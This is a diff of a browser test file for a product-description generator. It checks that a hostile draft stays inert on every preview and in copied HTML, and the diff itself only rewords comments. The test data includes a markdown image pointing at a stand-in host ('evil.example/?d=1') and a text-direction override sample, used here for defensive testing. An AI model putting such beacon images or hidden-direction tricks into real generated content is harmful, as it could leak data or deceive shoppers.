@@ -1,4 +1,4 @@
-/** Hostile text in every place that shows a text: nothing of it runs, and nothing of it asks anyone for anything. */
+/** Hostile text in every place that shows text: none of it runs, and none of it causes a request. */
 import { expect, type Page, test } from '../support/journey.ts';
 import { mug, newProduct } from '../support/places.ts';
 import { openStand, paste } from '../support/stand/stand.ts';
@@ -19,9 +19,9 @@ const evil = [
   '<p>over\u202eedir\u2066</p>',
 ].join('\n');
 
-/** Fails when anything ran or was put into the page; requests to others fail every journey anyway. */
+/** Fails if anything ran or was inserted into the page; requests to other hosts fail every browser test anyway. */
 async function expectInert(page: Page, dialogs: readonly string[]): Promise<void> {
-  // What is fetched or run late would have begun by now.
+  // Give delayed fetches and scripts time to start.
   await page.waitForTimeout(300);
   expect(dialogs).toEqual([]);
   expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
@@ -122,7 +122,7 @@ test('a hostile draft stays text: on every platform, in the editor, in what is c
   await page.goto(`/generate-description?product=${id}`);
   await page.getByRole('button', { name: /^Generate \(1 query\)/ }).click();
   await expect(page).toHaveURL(/draft=/);
-  // As if a model had written it: the same stored text, shown by the same screens.
+  // As if a model had written it: the stored text and the screens are the same.
   await seller.call('generation.saveDraft', {
     id: new URL(page.url()).searchParams.get('draft'),
     listing: {
@@ -136,7 +136,7 @@ test('a hostile draft stays text: on every platform, in the editor, in what is c
     },
   });
   await page.reload();
-  // A page without the app's policy, as the shop is that the HTML is pasted into.
+  // A page without the app's security policy, like the shop the HTML is pasted into.
   const shop = await context.newPage();
   await page.bringToFront();
   const tabs = page.getByRole('tablist', { name: 'Preview as' });
@@ -156,7 +156,7 @@ test('a hostile draft stays text: on every platform, in the editor, in what is c
     }
   }
   await expectInert(page, dialogs);
-  // Every remark quotes the words it is about; a hard one keeps the text from being used.
+  // Every finding quotes its words; a hard one blocks the use of the text.
   await expect(page.getByRole('button', { name: 'Use this version' })).toBeDisabled();
   await page.getByRole('button', { name: 'Edit', exact: true }).click();
   await expect(page.getByRole('textbox', { name: 'Intro' })).toContainText('![](https://evil.example/?d=1)');
@@ -170,7 +170,7 @@ test('a hostile draft stays text: on every platform, in the editor, in what is c
   await expectInert(page, dialogs);
 });
 
-/** What would run or be fetched where the copied HTML is put in: read by the browser's own parser, nothing of it loaded. */
+/** What would run or be fetched where the copied HTML is pasted: parsed by the browser without loading anything. */
 function activeIn(page: Page, html: string): Promise<string[]> {
   return page.evaluate((text) => {
     const { body } = new DOMParser().parseFromString(text, 'text/html');
